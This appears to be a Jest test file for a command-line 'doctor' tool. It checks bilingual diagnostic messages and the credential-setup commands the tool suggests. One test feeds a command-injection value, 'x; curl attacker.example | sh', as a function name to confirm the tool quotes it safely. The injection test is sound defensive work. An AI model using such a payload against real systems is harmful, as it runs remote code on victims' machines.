import { describe, expect, it } from "@jest/globals";
import { ENVIRONMENTS } from "../../../piste/environments";
import { GUIDE } from "../../../piste/guide";
import { LANGUAGES } from "../../../piste/language";
import { exampleOf, FINDING_CODES, FINDINGS, found } from "../../../cli/doctor/findings";

const ROWS = ENVIRONMENTS.flatMap((environment) => FINDING_CODES.map((code) => [environment, code] as const));

describe("a row of the doctor's table", () => {
  it.each(ROWS)("in %s, %s, blames a step of that environment and says why and what next", (environment, code) => {
    const row = exampleOf(code, environment);
    expect(GUIDE[environment].map(({ id }) => id)).toContain(row.step);
    for (const language of LANGUAGES) {
      for (const text of [row.cause[language], row.next[language]]) {
        expect(text).toMatch(/^\S[^]*[.!?]$/);
        expect(text).not.toMatch(/undefined|\[object|`` /);
      }
      expect(row.next[language]).not.toBe(row.cause[language]);
    }
  });

  it("that only time mends is not seen yet, never missing", () => {
    for (const code of FINDING_CODES) {
      const { owner, status } = exampleOf(code, "prod");
      if (owner === "wait") expect([code, status]).toEqual([code, "not-seen-yet"]);
    }
  });

  it("is spoken in two languages that differ", () => {
    for (const code of FINDING_CODES.filter((name) => name !== "bug")) {
      const { cause, next } = exampleOf(code, "qualif");
      expect([code, cause.fr]).not.toEqual([code, cause.en]);
      expect([code, next.fr]).not.toEqual([code, next.en]);
    }
  });

  it("names a function in a command so that a shell takes it for one word, whatever a description calls it", () => {
    const details = { functionName: "x; curl attacker.example | sh", secret: "token" };
    const { next } = found("token-absent", { environment: "qualif" }, details);
    for (const language of LANGUAGES) {
      expect(next[language]).toContain("`aws logs tail '/aws/lambda/x; curl attacker.example | sh' --since 15m`");
    }
  });

  it("names in its commands what has to be named, and nothing else", () => {
    const place = { environment: "qualif", application: "facturation", account: "client-a" } as const;
    expect(found("account-empty", place, {}).next.en).toContain(
      "`npx piste credentials set qualif technical-account --application facturation --account client-a`",
    );
    expect(found("client-empty", place, {}).next.en).toContain(
      "`npx piste credentials set qualif client --application facturation`",
    );
    expect(found("account-empty", { environment: "qualif" }, {}).next.en).toContain(
      "`npx piste credentials set qualif technical-account`",
    );
  });

  it("that waits for a value to be stored says what comes first", () => {
    expect(FINDINGS["client-empty"].first?.en).toBe("store the client credentials");
    expect(FINDINGS["account-empty"].first?.en).toBe("store the technical account");
  });
});
